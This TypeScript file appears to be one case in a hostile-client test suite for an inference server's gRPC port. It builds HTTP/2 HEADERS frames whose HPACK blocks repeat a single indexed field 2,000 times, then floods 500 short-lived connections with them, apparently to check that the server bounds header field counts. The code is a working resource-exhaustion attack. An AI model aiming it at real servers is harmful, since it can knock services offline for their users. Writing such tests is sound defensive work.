import { defineAttack, MODEL_INFER } from '../../hostile-client.js';
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  headerBlock,
  PREFACE,
  requestHeaders,
  settings,
} from '../../http2-frames.js';

export const attack = defineAttack(import.meta.url, {
  does: 'heads of a few KB whose indexed fields are joined to one: cookies, metadata, the same name 2,000 times',
  bound: 'a head has a bounded number of fields, counted before they are joined',
  port: 'grpc',
  async run(client) {
    /** Enters the table once, and is then named in one byte each. */
    const crumbs = (name: string): Buffer =>
      Buffer.concat([requestHeaders(MODEL_INFER), headerBlock([[name, 'a']], true), Buffer.alloc(2000, 0x80 + 62)]);
    const blocks = ['cookie', 'x-bin', 'grpc-timeout', 'traceparent', 'content-length', 'x'].map(crumbs);
    const connection = (): Buffer => {
      const frames = Array.from({ length: 100 }, (_, index) =>
        frame(FRAME.headers, END_HEADERS | END_STREAM, 2 * index + 1, blocks[index % blocks.length]),
      );
      return Buffer.concat([PREFACE, settings(), ...frames]);
    };
    const bytes = connection();
    await client.repeat(100, () => {
      for (let count = 0; count < 5; count++) {
        const socket = client.socket();
        socket.write(bytes);
        setTimeout(() => socket.destroy(), 2000);
      }
    });
  },
});
